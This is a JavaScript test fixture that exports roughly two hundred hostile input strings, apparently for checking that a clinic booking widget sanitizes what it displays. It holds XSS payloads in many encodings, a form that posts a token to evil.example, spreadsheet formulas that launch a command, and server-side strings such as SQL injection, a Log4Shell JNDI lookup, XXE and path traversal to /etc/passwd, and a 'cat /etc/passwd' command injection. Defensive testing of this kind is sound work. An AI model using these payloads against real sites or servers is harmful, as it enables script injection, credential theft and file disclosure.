// Two hundred hostile texts from the well-known families. A script that runs calls `alert`, which the tests replace; a request
// goes to a host that does not exist, which `watch` reports.

/** @typedef {{ name: string, text: string }} Payload */

const RUN = "alert(1)";
const ELSEWHERE = "https://evil.example";

/** @param {string} family @param {string[]} texts @returns {Payload[]} */
const numbered = (family, texts) => texts.map((text, nth) => ({ name: `${family} ${nth + 1}`, text }));

/** @param {string} family @param {Record<string, string>} texts @returns {Payload[]} */
const named = (family, texts) => Object.entries(texts).map(([name, text]) => ({ name: `${family}: ${name}`, text }));

const SCRIPTS = numbered("script tag", [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT>`,
  `<script/x>${RUN}</script>`,
  `<script\t>${RUN}</script\n>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script type="module">import "${ELSEWHERE}/x.js"</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<script>${RUN}`,
]);

/** Elements whose event handler attribute runs a script, mostly without any action of the patient. */
const HANDLERS = numbered("event handler", [
  ["img", "src=x onerror"], ["img/src=x/onerror", ""], ["image", "href=x onerror"], ["svg", "onload"], ["svg/onload", ""],
  ["body", "onload"], ["body", "onpageshow"], ["input", "autofocus onfocus"], ["textarea", "autofocus onfocus"],
  ["select", "autofocus onfocus"], ["details open", "ontoggle"], ["video", "src=x onerror"], ["video><source", "onerror"],
  ["audio", "src=x onerror"], ["marquee", "onstart"], ["object", "data=x onerror"], ["iframe", "onload"],
  ["link", "rel=stylesheet href=x onerror"], ["style", "onload"], ["a href=# ", "onmouseover"], ["b", "onpointerenter"],
  ["button autofocus", "onfocus"], ["x tabindex=1 autofocus", "onfocus"], ["x style=animation-name:x", "onanimationstart"],
  ["x contenteditable", "oninput"], ["dialog open", "onclose"], ["svg><animate", "onbegin"], ["svg><set", "onend"],
].map(([open, attribute]) => `<${open}${attribute ? ` ${attribute}` : ""}=${RUN}>`));

const ELEMENTS = numbered("element", [
  `<template><img src=x onerror=${RUN}></template>`,
  `<template shadowrootmode="open"><img src=x onerror=${RUN}></template>`,
  `<style>*{display:none!important}</style>`,
  `<style>@import "${ELSEWHERE}/x.css";</style>`,
  `<link rel="stylesheet" href="${ELSEWHERE}/x.css">`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<base href="${ELSEWHERE}/">`,
  `<form action="${ELSEWHERE}/"><input name=token><button>Sign in</button></form>`,
  `<button formaction="javascript:${RUN}">Book this visit</button>`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}/">`,
  `<object data="data:text/html,<script>${RUN}</script>"></object>`,
  `<embed src="data:image/svg+xml,<svg onload=${RUN}/>">`,
  `<a href="javascript:${RUN}">Book this visit</a>`,
  `<img src="${ELSEWHERE}/pixel.gif">`,
  `<img srcset="${ELSEWHERE}/pixel.gif 1x">`,
  `<slot name="help"></slot>`,
  `<find-a-time api="${ELSEWHERE}" npi="1234567893"></find-a-time>`,
  `<plaintext>`,
  `<xmp>`,
  `<!--`,
  `<table><td background="${ELSEWHERE}/pixel.gif">`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}/>#x"/></svg>`,
  `<math><maction actiontype="statusline#" xlink:href="javascript:${RUN}">x</maction></math>`,
]);

/** Markup that changes when it is serialized and parsed again. */
const MUTATIONS = numbered("parsed twice", [
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${RUN}>`,
  `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
]);

const BREAKOUTS = numbered("breakout", ['"', "'", "`"].flatMap((quote) => [
  `${quote}><img src=x onerror=${RUN}>`,
  `${quote} onmouseover=${quote}${RUN}`,
  `${quote} autofocus onfocus=${quote}${RUN}${quote} x=${quote}`,
  `${quote};${RUN}//`,
]).concat(`"'\`><svg onload=${RUN}>`, `x onfocus=${RUN} autofocus`, `" style="position:fixed;inset:0;background:url(${ELSEWHERE}/pixel.gif)`));

const ENTITIES = named("coded", {
  "as entities": `&lt;script&gt;${RUN}&lt;/script&gt;`,
  "as numbers": `&#60;img src=x onerror=${RUN}&#62;`,
  "as numbers without an end": `&#0000060img src=x onerror=${RUN}&#0000062`,
  "as hexadecimal numbers": `&#x3c;img src=x onerror=${RUN}&#x3e;`,
  "twice": `&amp;lt;script&amp;gt;${RUN}&amp;lt;/script&amp;gt;`,
  "in percent": `%3Cscript%3E${RUN}%3C/script%3E`,
  "in percent, twice": `%253Cscript%253E${RUN}%253C/script%253E`,
  "overlong in percent": `%C0%BCscript%C0%BE${RUN}`,
  "as an escape of JavaScript": `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  "as bytes of JavaScript": `\\x3cimg src=x onerror=${RUN}\\x3e`,
  "as an escape of CSS": `\\3c script\\3e ${RUN}`,
  "in UTF-7": `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  "in wide letters": `\uff1cscript\uff1e${RUN}\uff1c/script\uff1e`,
  "as small signs": `\ufe64img src=x onerror=${RUN}\ufe65`,
});

const URLS = numbered("address", [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, ` javascript:${RUN}`, `\u0001javascript:${RUN}`, `java\tscript:${RUN}`,
  `java\nscript:${RUN}`, `java\r\nscript:${RUN}`, `javascript\n:${RUN}`, `javascript&colon;${RUN}`, `&#106;avascript:${RUN}`,
  `javascript://${ELSEWHERE}/%0a${RUN}`, `javascript:https://x.example/;${RUN}`, `\u200bjavascript:${RUN}`,
  `java\u200dscript:${RUN}`, `\u202ejavascript:${RUN}`, `ｊavascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`, `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`, `DATA:image/svg+xml,<svg onload=${RUN}/>`,
  `vbscript:msgbox(1)`, `VBScript :msgbox(1)`, `blob:${ELSEWHERE}/0f6e5c1d-3b7c-4c0e-9e0d-8a1b2c3d4e5f`, `file:///etc/passwd`,
  `ftp://evil.example/`, `http://evil.example/`, `//evil.example/`,
  `\\\\evil.example\\share`, `https:evil.example`, `https:/\\evil.example`, `https://evil.example\u3002example/\u202e`,
]);

const hex = (/** @type {number} */ code) => `U+${code.toString(16).toUpperCase().padStart(4, "0")}`;
const HIDDEN = [
  0x061c, 0x180e, 0x200b, 0x200c, 0x200d, 0x200e, 0x200f, 0x202a, 0x202b, 0x202d, 0x202e, 0x2060, 0x2066, 0x2067, 0x2068, 0x2069, 0xfeff, 0xe0041,
].map((code) => ({ name: `hidden: ${hex(code)}`, text: `Dana${String.fromCodePoint(code)} dleif${String.fromCodePoint(code)}tihW ${hex(code)}` }));

const HUNDRED_KB = 100_000;
const LONG = named("long", {
  "one word": "W".repeat(HUNDRED_KB),
  "words": "Northlake ".repeat(HUNDRED_KB / 10),
  "marks on one letter": `Z${"\u0337\u0310".repeat(HUNDRED_KB / 4)}`,
  "pictures": "\u{1fa7a}".repeat(HUNDRED_KB / 4),
  "elements": `<b>`.repeat(HUNDRED_KB / 3),
  "right to left": "\u05d0\u05d1\u05d2".repeat(HUNDRED_KB / 6),
});

const CONTROLS = named("control", {
  "line separators": "Northlake\u2028Clinic\u2029Ballard",
  "line breaks": "Northlake\r\nClinic\nBallard\r",
  "a next line": "Northlake\u0085Clinic",
  "tabs and feeds": "North\tlake\u000bClinic\u000cBallard",
  "a null": `Dana\u0000<script>${RUN}</script>`,
  "backspaces": "Dana Whitfield\b\b\b\b\b\b\b\b\b",
  "a terminal": "\u001b[2J\u001b]0;Dana\u0007 Whitfield",
  "a deleted letter": "Dana\u007f Whitfield\u009f",
  "a replaced letter": "Dana \ufffd\ufffe\uffff Whitfield",
  "private letters": "Dana \ue000\uf8ff\u{10fffd} Whitfield",
});

const TEMPLATES = named("template", {
  "braces": "{{7*7}}",
  "a constructor in braces": `{{constructor.constructor('${RUN}')()}}`,
  "a literal": `\${${RUN}}`,
  "percent signs": "<%= 7*7 %>",
  "a hash": "#{7*7}",
  "brackets": `[[\${7*7}]]`,
  "an at sign": "@(7*7)",
  "raw": "{% raw %}{{{x}}}{% endraw %}",
  "a name of our own words": "{name} {n} {time} {clinic} {price}",
  "a replacement": "$& $1 $` $' $$ $<x>",
  "printf": "%s %n %d %x %99999999s",
  "an address of the config": "{{visitId}}{{brand}}",
});

const CELLS = numbered("cell of a table", ["=1+1", "+1+1", "-1+1", "@SUM(1,1)", "=cmd|' /C calc'!A0", `=HYPERLINK("${ELSEWHERE}","Book")`, "\t=1+1"]);

const WORDS = numbered("word of a program", [
  "__proto__", "constructor", "toString", "hasOwnProperty", "[object Object]", "undefined", "null", "NaN", '\\"}],"x":{"',
]);

const SERVERS = numbered("for a server", [
  "' OR '1'='1' --", `\${jndi:ldap://evil.example/x}`, "../../../../etc/passwd", `<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  "; cat /etc/passwd #", "*)(uid=*))(|(uid=*", "Set-Cookie: a=b\r\n\r\n<html>",
]);

/** @type {Payload[]} */
export const PAYLOADS = [
  ...SCRIPTS, ...HANDLERS, ...ELEMENTS, ...MUTATIONS, ...BREAKOUTS, ...ENTITIES, ...URLS, ...HIDDEN, ...LONG, ...CONTROLS, ...TEMPLATES, ...CELLS,
  ...WORDS, ...SERVERS,
];

/** Characters that no shown text may hold: control characters, zero-width characters, tags, direction marks and overrides. */
export const NEVER_SHOWN = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u180e\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff]|[\u{e0000}-\u{e007f}]/u;

/** A text for Acme's fault `texts`: Acme sends U+FDD2 as the escape of half a surrogate pair, which JSON allows. */
export const LONE_SURROGATE = "Dana \ufdd2 Whitfield";
